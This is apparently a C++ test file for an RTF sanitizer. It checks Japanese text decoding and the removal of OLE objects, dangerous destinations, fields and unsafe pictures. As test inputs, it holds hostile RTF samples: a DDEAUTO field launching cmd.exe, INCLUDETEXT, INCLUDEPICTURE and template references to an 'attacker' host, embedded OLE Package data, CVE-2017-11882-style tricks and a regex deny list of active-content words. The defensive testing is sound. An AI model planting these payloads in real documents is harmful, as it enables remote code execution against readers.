// RTF cdr and text: hostile samples for each class of active content, Word's parser quirks,
// Japanese text in Shift_JIS \'hh pairs and in \uN, pictures, limits. Outputs are checked
// with plain string searches (not sanso's reader) and, where installed, with LibreOffice.
#include <gtest/gtest.h>
#include <vips/vips8>

#include <regex>

#include "image/image_sanitizer.h"
#include "support/sanitize_runner.h"
#include "support/test_util.h"

namespace sanso::sanitize::rtf {
namespace {

using test::hasAction;
using test::sanitizeBytes;

constexpr const char* kJapaneseHeader =
    "{\\rtf1\\ansi\\ansicpg932\\deff0{\\fonttbl{\\f0\\froman\\fcharset0 Times New Roman;}"
    "{\\f1\\fnil\\fcharset128 \\'82\\'6c\\'82\\'72 \\'96\\'be\\'92\\'a9;}}"
    "{\\colortbl;\\red255\\green0\\blue0;}";

// 宗像市役所 in Shift_JIS, as \'hh pairs.
constexpr const char* kMunakataSjis = "\\'8f\\'40\\'91\\'9c\\'8e\\'73\\'96\\'f0\\'8f\\'8a";

test::Sanitized cdr(const std::string& rtf, Options options = {}) {
  options.method = Method::kCdr;
  return sanitizeBytes(rtf, "in.rtf", options);
}

std::string textOf(const std::string& rtf) {
  Options options;
  options.method = Method::kText;
  auto result = sanitizeBytes(rtf, "in.rtf", options);
  EXPECT_NE(result.report.verdict, Verdict::kBlocked) << result.report.message;
  return result.output.value_or("");
}

// Active content left in an RTF output, found by searching the bytes (independent of the
// reader): object words, object data, \bin, external-content fields, datastore, template...
std::string leftovers(const std::string& rtf) {
  static const std::regex kForbidden(
      R"(\\(obj[a-z]*|bin|datastore|template|xmlnstbl|generator|themedata|shp|do|nonshppict|wmetafile|emfblip|macpict|dibitmap|wbitmap|author|operator|company|hlinkbase|ffentrymcr|ffexitmcr|docvar|mailmerge)[^a-z]|DDE|INCLUDE|IMPORT|\bLINK\b|objclass|Package|d0cf11e0)",
      std::regex::icase);
  // An escaped backslash is text, not the start of a control word.
  const std::string plain = std::regex_replace(rtf, std::regex(R"(\\\\)"), " ");
  std::smatch m;
  if (std::regex_search(plain, m, kForbidden)) return m.str();
  return {};
}

std::string hex(const std::string& bytes) {
  static constexpr char kDigits[] = "0123456789abcdef";
  std::string out;
  for (unsigned char c : bytes) {
    out += kDigits[c >> 4];
    out += kDigits[c & 15];
  }
  return out;
}

std::string encodeImage(const char* suffix) {
  image::initOnce();
  vips::VImage xy = vips::VImage::xyz(24, 16);
  vips::VImage image = (xy[0] * 10).bandjoin(xy[1] * 15).bandjoin(xy[0] * 5).cast(VIPS_FORMAT_UCHAR)
                           .copy(vips::VImage::option()->set("interpretation", VIPS_INTERPRETATION_sRGB));
  void* buffer = nullptr;
  size_t size = 0;
  image.write_to_buffer(suffix, &buffer, &size);
  std::string bytes(static_cast<const char*>(buffer), size);
  g_free(buffer);
  return bytes;
}

bool contains(const std::string& haystack, const std::string& needle) {
  return haystack.find(needle) != std::string::npos;
}

// ---- Japanese text --------------------------------------------------------------------------

TEST(RtfText, ShiftJisHexPairsAndUnicodeDecode) {
  const std::string rtf = std::string(kJapaneseHeader) + "\\f1 " + kMunakataSjis +
                          "\\par {\\uc2\\u24773\\'8f\\'ee\\u22577\\'95\\'f1}\\par "
                          "{\\uc1\\u-30030?\\u-27273?}\\par}";
  const std::string text = textOf(rtf);
  EXPECT_TRUE(contains(text, "宗像市役所\n")) << text;
  EXPECT_TRUE(contains(text, "情報\n")) << text;
  EXPECT_TRUE(contains(text, "課長\n")) << text;  // \u-30030 = U+8AB2 課, \u-27273 = U+9577 長
  EXPECT_FALSE(contains(text, "ＭＳ")) << "font names are not document text: " << text;
}

TEST(RtfText, SurrogatePairsAndSymbols) {
  const std::string text =
      textOf("{\\rtf1\\uc0 A\\u-10179\\u-8704 B\\emdash\\tab C\\~D\\ldblquote x\\rdblquote}");
  EXPECT_EQ(text, "A\xF0\x9F\x98\x80" "B\xE2\x80\x94\tC\xC2\xA0" "D\xE2\x80\x9Cx\xE2\x80\x9D");
}

TEST(RtfText, WesternCodePage) {
  const std::string text = textOf(
      "{\\rtf1\\ansi\\ansicpg1252{\\fonttbl{\\f0\\fswiss\\fcharset0 Arial;}"
      "{\\f1\\fnil\\fcharset204 Cyr;}}\\f0 caf\\'e9 \\f1\\'c4\\'e0}");
  EXPECT_EQ(text, "caf\xC3\xA9 \xD0\x94\xD0\xB0");  // café Да
}

TEST(RtfCdr, JapaneseSurvivesBothEncodings) {
  const std::string rtf = std::string(kJapaneseHeader) + "\\f1 " + kMunakataSjis +
                          "\\par {\\uc2\\u24773\\'8f\\'ee\\u22577\\'95\\'f1}\\par}";
  auto result = cdr(rtf);
  ASSERT_TRUE(result.output) << result.report.message;
  EXPECT_TRUE(result.output->starts_with("{\\rtf1\\uc1")) << *result.output;
  // 宗 U+5B97, 像 U+50CF; 情 U+60C5.
  EXPECT_TRUE(contains(*result.output, "\\u23447?\\u20687?")) << *result.output;
  EXPECT_TRUE(contains(*result.output, "\\u24773?")) << *result.output;
  EXPECT_TRUE(contains(*result.output, "\\fcharset128")) << *result.output;
  // The output reads back to the same text.
  EXPECT_EQ(textOf(*result.output), textOf(rtf));
}

// ---- OLE objects ----------------------------------------------------------------------------

TEST(RtfCdr, ObjectsAreDroppedWithTheirData) {
  const std::string ole = "01050000020000000800000050616b6167650000000000000000d0cf11e0a1b11ae1";
  for (const std::string& object : {
           "{\\object\\objemb\\objupdate{\\*\\objclass Package}\\objw100\\objh100{\\*\\objdata " +
               ole + "}{\\result{\\pict\\wmetafile8 0100}}}",
           "{\\object\\objautlink\\rsltpict{\\*\\objdata " + ole + "}}",
           "{\\object\\objlink{\\*\\objdata 01 05{\\*\\junk x}00 00\\'41 02" + ole + "}}",
           "{\\object\\objocx{\\*\\objdata \\bin4 \x01\x05\x00\x00" + ole + "}}",
           "{\\object\\objhtml{\\*\\objdata " + ole + "}}",
           "{\\*\\objdata " + ole + "}",                       // data without an object
           "{\\objdata " + ole + "}",                          // without \*
           "{\\b bold \\objdata " + ole + "}",                 // switched to mid-group
           "{\\*\\objdata" + std::string(300, 'x') + " " + ole + "}",
       }) {
    SCOPED_TRACE(object);
    auto result = cdr("{\\rtf1 before " + object + " after\\par}");
    ASSERT_TRUE(result.output) << result.report.message;
    EXPECT_EQ(leftovers(*result.output), "");
    EXPECT_FALSE(contains(*result.output, "0105")) << *result.output;
    EXPECT_TRUE(contains(*result.output, "before")) << *result.output;
    EXPECT_TRUE(contains(*result.output, "after")) << *result.output;
    EXPECT_EQ(result.report.verdict, Verdict::kSanitized);
  }
}

TEST(RtfCdr, ObjectReportNamesItsKind) {
  auto result = cdr("{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}}");
  ASSERT_EQ(result.report.verdict, Verdict::kSanitized);
  bool named = false;
  for (const auto& a : result.report.actions) {
    if (a.what == "ole-object") named = contains(a.detail, "\\objupdate");
  }
  EXPECT_TRUE(named);
}

TEST(RtfCdr, Cve2017_11882StyleHeaderAndBinTricks) {
  // {\rt header, \bin with a huge and a negative count, an unterminated document.
  for (const std::string& rtf : {
           std::string("{\\rt{\\object\\objautlink\\objupdate\\rsltpict{\\*\\objclass \\'77}"
                       "{\\*\\objdata 32\\bin6 FF}}}"),
           std::string("{\\rtf2 text{\\*\\objdata \\bin99999999 0105000002}}"),
           std::string("{\\rtxyz text{\\*\\objdata \\bin-5 0105000002}"),
           std::string("{\\rtf1 text\\bin4 \\obj{\\object}"),
       }) {
    SCOPED_TRACE(rtf);
    auto result = cdr(rtf);
    ASSERT_TRUE(result.output) << result.report.message;
    EXPECT_TRUE(result.output->starts_with("{\\rtf1"));
    EXPECT_EQ(leftovers(*result.output), "");
  }
}

// ---- destinations -------------------------------------------------------------------------

TEST(RtfCdr, UnknownAndDangerousDestinationsGo) {
  const std::string rtf =
      "{\\rtf1{\\*\\generator Evil 1.0;}{\\*\\datastore 0105000002000000}"
      "{\\*\\template \\\\\\\\attacker\\\\share\\\\t.dotm}{\\*\\xmlnstbl {\\xmlns1 http://x}}"
      "{\\*\\themedata 504b0304}{\\*\\unknownthing secret}{\\*\\docvar {x}{y}}"
      "{\\*\\userprops {\\propname p}\\proptype30{\\staticval v}}"
      "{\\*\\formfield{\\*\\ffentrymcr AutoExec}}Body\\par}";
  auto result = cdr(rtf);
  ASSERT_TRUE(result.output) << result.report.message;
  EXPECT_EQ(leftovers(*result.output), "");
  for (const char* gone : {"Evil", "attacker", "secret", "AutoExec", "504b", "xmlns"}) {
    EXPECT_FALSE(contains(*result.output, gone)) << gone << " in " << *result.output;
  }
  EXPECT_TRUE(contains(*result.output, "Body"));
  for (const char* what : {"generator", "datastore", "template", "xml-namespaces", "theme-data",
                           "unknown-destination", "document-variable", "custom-properties",
                           "form-field-data"}) {
    EXPECT_TRUE(hasAction(result.report, "removed", what)) << what;
  }
}

TEST(RtfCdr, MetadataFollowsTheOption) {
  const std::string rtf =
      "{\\rtf1{\\info{\\title Budget}{\\author Taro Yamada}{\\operator Hanako}"
      "{\\*\\company City Hall}{\\creatim\\yr2025\\mo4\\dy1}{\\hlinkbase file://evil/}}Body}";
  auto stripped = cdr(rtf);
  ASSERT_TRUE(stripped.output);
  EXPECT_TRUE(contains(*stripped.output, "Budget"));
  EXPECT_FALSE(contains(*stripped.output, "Yamada"));
  EXPECT_FALSE(contains(*stripped.output, "Hanako"));
  EXPECT_FALSE(contains(*stripped.output, "City Hall"));
  EXPECT_FALSE(contains(*stripped.output, "evil"));
  EXPECT_TRUE(hasAction(stripped.report, "removed", "metadata"));

  Options keep;
  keep.remove_metadata = false;
  auto kept = cdr(rtf, keep);
  ASSERT_TRUE(kept.output);
  EXPECT_TRUE(contains(*kept.output, "Yamada"));
  EXPECT_FALSE(contains(*kept.output, "evil"));  // the hyperlink base goes anyway
}

// ---- fields ---------------------------------------------------------------------------------

TEST(RtfCdr, ExternalContentFieldsKeepOnlyTheirResult) {
  for (const std::string& instruction : {
           std::string("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\""),
           std::string("DDE \"c:\\\\x.exe\" \"a\""),
           std::string(" dde c:\\\\x.exe"),
           std::string("{\\'44}DE{\\b AUTO} c:\\\\x.exe"),     // split, hex-escaped
           std::string("\\u68?\\u68?\\u69? c:\\\\x.exe"),       // as \uN
           std::string("INCLUDETEXT \"\\\\\\\\attacker\\\\s\\\\a.docx\""),
           std::string("INCLUDEPICTURE \"http://attacker/x.png\" \\\\d"),
           std::string("IMPORT \"http://attacker/x.wmf\""),
           std::string("LINK Excel.Sheet.8 \"c:\\\\x.xls\" \"\""),
           std::string("{\\field{\\*\\fldinst QUOTE DDEAUTO}{\\fldrslt DDEAUTO}} c:\\\\x.exe"),
           std::string("MACROBUTTON AutoOpen click"),
       }) {
    SCOPED_TRACE(instruction);
    auto result = cdr("{\\rtf1 a{\\field\\flddirty{\\*\\fldinst " + instruction +
                      "}{\\fldrslt {\\b shown result}}} z}");
    ASSERT_TRUE(result.output) << result.report.message;
    EXPECT_EQ(leftovers(*result.output), "");
    EXPECT_FALSE(contains(*result.output, "fldinst")) << *result.output;
    EXPECT_FALSE(contains(*result.output, "calc")) << *result.output;
    EXPECT_TRUE(contains(*result.output, "shown result")) << *result.output;
    EXPECT_EQ(result.report.verdict, Verdict::kSanitized);
  }
}

TEST(RtfCdr, HyperlinksFollowTheLinkPolicy) {
  auto field = [](const std::string& target) {
    return "{\\rtf1{\\field{\\*\\fldinst HYPERLINK \"" + target + "\"}{\\fldrslt link}}}";
  };
  auto https = cdr(field("https://www.city.example.lg.jp/page.html"));
  ASSERT_TRUE(https.output);
  EXPECT_TRUE(contains(*https.output, "{\\field{\\*\\fldinst HYPERLINK"));
  EXPECT_TRUE(contains(*https.output, "https://www.city.example.lg.jp/page.html"));
  EXPECT_EQ(https.report.verdict, Verdict::kClean);

  for (const char* target : {"file:///c:/windows/system32/calc.exe", "\\\\\\\\host\\\\share",
                             "javascript:alert(1)", "http://x/run.exe"}) {
    auto launch = cdr(field(target));
    ASSERT_TRUE(launch.output);
    EXPECT_FALSE(contains(*launch.output, "fldinst")) << target;
    EXPECT_TRUE(contains(*launch.output, "link"));
    EXPECT_TRUE(hasAction(launch.report, "neutralized", "hyperlink-field")) << target;
  }
  Options no_links;
  no_links.keep_hyperlinks = false;
  auto off = cdr(field("https://example.org/"), no_links);
  ASSERT_TRUE(off.output);
  EXPECT_FALSE(contains(*off.output, "fldinst"));
}

TEST(RtfCdr, FieldWithoutResultOrInstructionIsHandled) {
  auto result = cdr("{\\rtf1{\\field{\\*\\fldinst DDEAUTO x}}{\\field{\\fldrslt only}}"
                    "{\\*\\fldinst DDE stray}end}");
  ASSERT_TRUE(result.output);
  EXPECT_EQ(leftovers(*result.output), "");
  EXPECT_TRUE(contains(*result.output, "only"));
  EXPECT_TRUE(contains(*result.output, "end"));
}

// ---- pictures -------------------------------------------------------------------------------

TEST(RtfCdr, PngAndJpegPicturesAreReencoded) {
  const std::string png = encodeImage(".png");
  const std::string jpeg = encodeImage(".jpg");
  std::string spaced;
  for (size_t i = 0; i < hex(png).size(); ++i) {
    spaced += hex(png)[i];
    if (i % 7 == 3) spaced += " \r\n";
    if (i % 97 == 5) spaced += "{\\*\\blipuid 0011}";
  }
  const std::string rtf = "{\\rtf1{\\*\\shppict{\\pict\\pngblip\\picw24\\pich16\\picwgoal360\\pichgoal240 " +
                          spaced + "}}{\\nonshppict{\\pict\\wmetafile8 0100090000}}"
                          "{\\pict\\jpegblip\\picscalex50 " + hex(jpeg) + "}"
                          "{\\pict\\pngblip " + hex("MZ\x90\x00 not a png") + "}"
                          "{\\pict\\emfblip 0100000000}{\\pict\\macpict 0011}}";
  auto result = cdr(rtf);
  ASSERT_TRUE(result.output) << result.report.message;
  EXPECT_EQ(leftovers(*result.output), "");
  EXPECT_TRUE(contains(*result.output, "{\\pict\\pngblip\\picw24\\pich16\\picwgoal360\\pichgoal240\r\n89504e47"))
      << *result.output;
  EXPECT_TRUE(contains(*result.output, "{\\pict\\jpegblip\\picscalex50\r\nffd8ff"));
  EXPECT_FALSE(contains(*result.output, "4d5a"));
  EXPECT_TRUE(hasAction(result.report, "re-encoded", "image"));
  EXPECT_TRUE(hasAction(result.report, "removed", "picture"));
}

// ---- structure and limits -----------------------------------------------------------------

TEST(RtfCdr, UnbalancedBracesAndTrailingData) {
  auto open = cdr("{\\rtf1{\\b bold{\\i both");
  ASSERT_TRUE(open.output);
  EXPECT_EQ(*open.output, "{\\rtf1\\uc1{\\b bold{\\i both}}}");
  auto trailing = cdr("{\\rtf1 x}}{\\object{\\*\\objdata 0105}}MZ");
  ASSERT_TRUE(trailing.output);
  EXPECT_EQ(*trailing.output, "{\\rtf1\\uc1 x}");
  EXPECT_TRUE(hasAction(trailing.report, "removed", "trailing-data"));
}

TEST(RtfCdr, TextIsEscapedAndControlWordsCanonical) {
  auto result = cdr("{\\rtf1\\b\\fs24 a\\{b\\}c\\\\d\\par\\i0000000000000000001 e\\f" +
                    std::string(400, 'z') + " f\\unknownword g}");
  ASSERT_TRUE(result.output);
  EXPECT_EQ(*result.output,
            "{\\rtf1\\uc1\\b\\fs24 a\\{b\\}c\\\\d\\par\r\n\\i1 efg}");
  EXPECT_TRUE(hasAction(result.report, "removed", "oversized-control-word"));
  EXPECT_TRUE(hasAction(result.report, "removed", "control-word"));
}

TEST(RtfCdr, DeepNestingIsRefused) {
  Options options;
  options.limits.max_rtf_depth = 50;
  auto result = cdr("{\\rtf1" + std::string(100, '{') + "x" + std::string(100, '}') + "}", options);
  EXPECT_EQ(result.report.verdict, Verdict::kBlocked);
  EXPECT_EQ(result.report.reason, "limit-rtf-depth");
  EXPECT_FALSE(result.output);
  // Also inside a dropped group.
  auto dropped = cdr("{\\rtf1{\\*\\x" + std::string(100, '{') + std::string(100, '}') + "}}",
                     options);
  EXPECT_EQ(dropped.report.reason, "limit-rtf-depth");
}

TEST(RtfCdr, TokenLimit) {
  Options options;
  options.limits.max_rtf_tokens = 1000;
  std::string rtf = "{\\rtf1";
  for (int i = 0; i < 70000; ++i) rtf += "\\b";
  auto result = cdr(rtf + "}", options);
  EXPECT_EQ(result.report.reason, "limit-rtf-tokens");
}

TEST(RtfDetect, WordHeadersAreRtf) {
  for (const char* header : {"{\\rtf1 x}", "{\\rt x}", "{\\rtf2 x}", "{\\rtxyz{x}}"}) {
    auto result = cdr(header);
    EXPECT_EQ(result.report.input.type, "rtf") << header;
    EXPECT_NE(result.report.verdict, Verdict::kBlocked) << header;
  }
}

// ---- LibreOffice as the independent reader -------------------------------------------------

TEST(RtfLibreOffice, SanitizedOutputsOpenWithJapaneseIntact) {
  if (!test::haveProgram("soffice")) GTEST_SKIP() << "LibreOffice is not installed";
  test::TempDir dir;
  // A document written by LibreOffice itself, and two hand-made Japanese documents.
  test::writeFileOrDie(dir.file("lo.txt"), "宗像市役所 情報政策課\n令和七年度 予算書（案）\n");
  const std::string lo_cmd = "cd " + test::shellQuote(dir.path()) + " && HOME=" +
                             test::shellQuote(dir.path()) +
                             " timeout 300 soffice -env:UserInstallation=file://" + dir.path() +
                             "/profile --headless --norestore ";
  int code = -1;
  test::runCommand(lo_cmd + "--infilter='Text (encoded):UTF8,LF,,,' --convert-to rtf lo.txt"
                   " >/dev/null 2>&1", &code);
  ASSERT_EQ(code, 0);
  const std::string lo_rtf = test::readFileOrDie(dir.file("lo.rtf"));
  const std::string sjis = std::string(kJapaneseHeader) + "\\f1 " + kMunakataSjis +
                           "{\\object\\objemb{\\*\\objdata 0105}}\\par "
                           "{\\field{\\*\\fldinst DDEAUTO cmd}{\\fldrslt \\u24773\\'8f\\'ee}}\\par}";
  const std::string unicode = "{\\rtf1\\ansi\\uc0 \\u23447\\u20687\\u24066\\par}";
  int n = 0;
  for (const std::string& input : {lo_rtf, sjis, unicode}) {
    auto result = cdr(input);
    ASSERT_TRUE(result.output) << result.report.message;
    EXPECT_EQ(leftovers(*result.output), "");
    test::writeFileOrDie(dir.file("out" + std::to_string(++n) + ".rtf"), *result.output);
  }
  test::runCommand(lo_cmd + "--convert-to 'txt:Text (encoded):UTF8' out1.rtf out2.rtf out3.rtf"
                   " >/dev/null 2>&1", &code);
  ASSERT_EQ(code, 0);
  const std::string lo_text = test::readFileOrDie(dir.file("out1.txt"));
  EXPECT_TRUE(contains(lo_text, "宗像市役所 情報政策課")) << lo_text;
  EXPECT_TRUE(contains(lo_text, "令和七年度 予算書（案）")) << lo_text;
  const std::string sjis_text = test::readFileOrDie(dir.file("out2.txt"));
  EXPECT_TRUE(contains(sjis_text, "宗像市役所")) << sjis_text;
  EXPECT_TRUE(contains(sjis_text, "情")) << sjis_text;
  EXPECT_TRUE(contains(test::readFileOrDie(dir.file("out3.txt")), "宗像市"));
  // Our text method agrees with LibreOffice on LibreOffice's own RTF.
  EXPECT_TRUE(contains(textOf(lo_rtf), "令和七年度 予算書（案）"));
}

}  // namespace
}  // namespace sanso::sanitize::rtf
